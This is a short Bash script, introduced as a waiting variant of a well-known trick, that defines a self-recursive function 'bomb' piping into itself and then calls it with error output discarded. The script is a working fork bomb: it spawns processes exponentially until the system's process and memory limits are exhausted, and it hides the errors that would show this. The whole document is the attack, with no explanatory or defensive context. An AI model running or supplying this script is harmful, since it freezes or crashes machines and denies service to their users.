# Not the famous one, whose first process ends at once: here every process waits for its children.
bomb() {
  bomb | bomb
}

bomb 2>/dev/null
